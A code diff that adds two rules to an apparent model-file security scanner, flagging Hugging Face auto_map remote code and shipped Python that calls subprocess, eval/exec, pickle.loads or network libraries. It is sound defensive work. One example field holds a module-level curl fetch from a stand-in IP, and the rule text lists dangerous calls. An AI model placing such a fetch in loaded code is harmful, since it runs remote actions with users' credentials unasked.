@@ -144,6 +144,26 @@ pub static CFG004: Rule = Rule {
     references: &[],
 };
 
+pub static CFG005: Rule = Rule {
+    id: "CFG005",
+    severity: Severity::Warning,
+    title: "Config loads custom code (auto_map)",
+    what: "A Hugging Face `config.json` or `tokenizer_config.json` has an `auto_map`: loading the model with `trust_remote_code=True` imports and runs the Python modules it names (listed in the evidence, with the repository when the code lives in another one).",
+    why: "Remote code runs with the loader's privileges before any weight is read; it must be reviewed like any dependency. Probity scans the `.py` files it finds (CFG006), but code in another repository is not here to scan.",
+    example: "`\"auto_map\": {\"AutoModelForCausalLM\": \"modeling_x.XForCausalLM\"}`.",
+    references: &["CWE-829"],
+};
+
+pub static CFG006: Rule = Rule {
+    id: "CFG006",
+    severity: Severity::Critical,
+    title: "Python code shipped with the model runs dangerous calls",
+    what: "A Python file (remote code for `trust_remote_code`, a custom pipeline, a script beside the weights) calls process execution (`os.system`, `subprocess.*`), code evaluation or loading (`eval`, `exec`, `compile`, `__import__`, `marshal.loads`, `pickle.loads`, `ctypes`), network access (`socket`, `urllib.request`, `requests`, `httpx`), or writes or deletes files by absolute or home paths. Calls are resolved through the file's imports and aliases; code decoded from base64, hex or compression on its way into `exec`/`eval` is noted.",
+    why: "Transformers imports remote code when the model is loaded; these calls run then, with the user's credentials, on the training or serving machine. Ordinary modeling code does none of them.",
+    example: "`modeling_x.py` with `import subprocess as sp` and `sp.run(['curl', 'http://203.0.113.7/x'])` at module level.",
+    references: &["CWE-94", "CWE-829"],
+};
+
 pub static GGF001: Rule = Rule {
     id: "GGF001",
     severity: Severity::Warning,
@@ -216,6 +236,6 @@ pub static NET001: Rule = Rule {
 
 pub static RULES: &[&Rule] = &[
     &ARC001, &ARC002, &ARC003, &ARC004, &ARC005, &ARC006, &ARC007, &ARC008, &CFG001, &CFG002,
-    &CFG003, &CFG004, &GGF001, &KRS001, &KRS002, &KRS003, &NET001, &SFT001, &SFT002, &TRC001,
-    &NPY001,
+    &CFG003, &CFG004, &CFG005, &CFG006, &GGF001, &KRS001, &KRS002, &KRS003, &NET001, &SFT001,
+    &SFT002, &TRC001, &NPY001,
 ];
